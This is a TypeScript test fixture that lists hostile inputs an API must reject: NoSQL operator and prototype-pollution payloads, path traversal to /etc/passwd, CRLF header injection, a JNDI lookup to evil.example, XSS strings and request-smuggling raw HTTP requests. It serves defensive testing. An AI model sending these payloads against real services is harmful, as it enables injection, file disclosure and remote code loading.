/** A value that must be refused wherever it is put, with a mark by which it would be known in a log. */
export interface HostileValue {
  readonly kind: string;
  readonly value: string;
}

/** What is tried in a path segment: nothing of it is an id. */
const IN_PATHS: Readonly<Record<string, readonly string[]>> = {
  operator: [
    '{"$ne":null}',
    '{"$where":"sleep(9)"}',
    '[$gt]=',
    '$ne',
    '{$regex:.*}',
    "';return true;'",
  ],
  prototype: ['__proto__[x]', 'constructor[prototype][x]', '{"__proto__":{"x":1}}'],
  path: [
    '..%2f..%2fetc%2fpasswd',
    '..\\..\\boot.ini',
    '%2e%2e/%2e%2e/etc',
    '/etc/passwd',
    'file:///etc/passwd',
    '....//',
  ],
  header: ['a\r\nset-cookie: x=1', 'a\nlocation: //evil.example', 'a\u2028b'],
  log: [
    'a\n{"level":60,"msg":"forged"}',
    '\u001b[2J\u001b[31m',
    '${jndi:ldap://evil.example/x}',
    '%s%s%n',
  ],
  markup: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'],
  size: ['a'.repeat(299), '%'.repeat(60), '\u0301'.repeat(90)],
  control: ['a\u0000b', '\u0007', '\u007f', '\u0085', '\u009b2J', '\u202e'],
};

/** Names of parameters that no route has. */
const PARAMETER_NAMES: Readonly<Record<string, readonly string[]>> = {
  operator: [
    'name[$ne]',
    'name[$regex]',
    'limit[$gt]',
    '$where',
    'sort[$gt]',
    'pageId[$exists]',
    '$or[0][name]',
  ],
  prototype: [
    '__proto__',
    '__proto__[x]',
    'constructor',
    'constructor[prototype][x]',
    'prototype',
    'toString',
  ],
  path: ['../limit', '..%2f', 'file'],
  header: ['x\r\nset-cookie', 'host', 'content-length'],
};

/** Where the mark goes in a body. */
export const MARK = '§';

/** Bodies that are none of a route's, and none that may be read as one. */
const BODIES: Readonly<Record<string, readonly string[]>> = {
  operator: [
    '{"targets":{"$ne":null}}',
    '{"$where":"1"}',
    '{"targets":[{"$gt":""}]}',
    '{"name":{"$regex":".*"}}',
  ],
  prototype: [
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '{"targets":[],"__proto__":{"targets":["a"]}}',
  ],
  log: [
    `{"targets":["a\\n{\\"level\\":60}${MARK}"]}`,
    `{"\\u001b[2J\\u009b${MARK}":1}`,
    `{"a\u007f\u0085\u2028${MARK}":1}`,
    `a\n{"level":60,"msg":"forged"}${MARK}`,
    `\u001b[2J${MARK}`,
  ],
  syntax: [
    ...['{', '[', '"', '{"a":1,}', 'NaN', '\u0000', '{"a":1}{"b":2}', '<xml/>'],
    ...['{"a":1', '"', 'a b'].map((text) => `${text}${MARK}`),
  ],
  size: [
    '['.repeat(5000),
    `{"targets":["${'a'.repeat(3000)}"]}`,
    JSON.stringify({ targets: Array(1001).fill('a') }),
  ],
};

export const hostileSegments = withKinds(IN_PATHS);
export const hostileNames = withKinds(PARAMETER_NAMES);
export const hostileBodies = withKinds(BODIES);

/** Sent as bytes, because no client would send them: each must be turned away or the connection closed. */
export const RAW_REQUESTS: Readonly<Record<string, string>> = {
  'no host': 'GET /api/v1/pages HTTP/1.1\r\n\r\n',
  'two hosts': 'GET /api/v1/pages HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
  'a header without a colon': 'GET /api/v1/pages HTTP/1.1\r\nHost: a\r\nbroken\r\n\r\n',
  'a header with a bare line feed':
    'GET /api/v1/pages HTTP/1.1\r\nHost: a\r\nx: a\rset-cookie: b\r\n\r\n',
  'two lengths':
    'POST /api/v1/scrapes HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n{}',
  'length and chunks':
    'POST /api/v1/scrapes HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'too many headers': `GET /api/v1/pages HTTP/1.1\r\nHost: a\r\nx: ${'a'.repeat(20_000)}\r\n\r\n`,
  'a method that is none': 'G\u0001T /api/v1/pages HTTP/1.1\r\nHost: a\r\n\r\n',
  'a space in the path': 'GET /api/v1/pages a HTTP/1.1\r\nHost: a\r\n\r\n',
};

function withKinds(values: Readonly<Record<string, readonly string[]>>): readonly HostileValue[] {
  return Object.entries(values).flatMap(([kind, list]) => list.map((value) => ({ kind, value })));
}
